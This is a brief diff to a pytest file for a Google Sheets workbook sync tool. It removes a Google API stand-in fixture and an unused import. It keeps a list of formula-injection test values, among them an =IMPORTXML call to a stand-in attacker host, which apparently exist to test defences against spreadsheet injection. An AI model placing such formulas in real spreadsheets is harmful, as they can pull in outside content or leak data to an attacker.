@@ -8,19 +8,10 @@ import pytest
 from functions.changes import changed_workbooks
 from sync.google.store import GoogleStore
 from sync.store import Tab, WorkbookRef
-from tests.google_standin import SERVICE_ACCOUNT, TEACHER, StandIn
+from tests.google_standin import SERVICE_ACCOUNT, TEACHER
 from tests.fakes import SimClock
 
 HOSTILE = ['=IMPORTXML("http://evil.example","//a")', "+1", "@SUM(1)"]
-
-
-@pytest.fixture
-def google(monkeypatch):
-    with StandIn() as standin:
-        monkeypatch.setenv("GOOGLE_APPLICATION_CREDENTIALS", str(standin.key_file))
-        monkeypatch.setenv("TRACKER_GOOGLE_API_ROOT", standin.api_root)
-        yield standin
-        assert standin.schema_errors == []
 
 
 @pytest.fixture
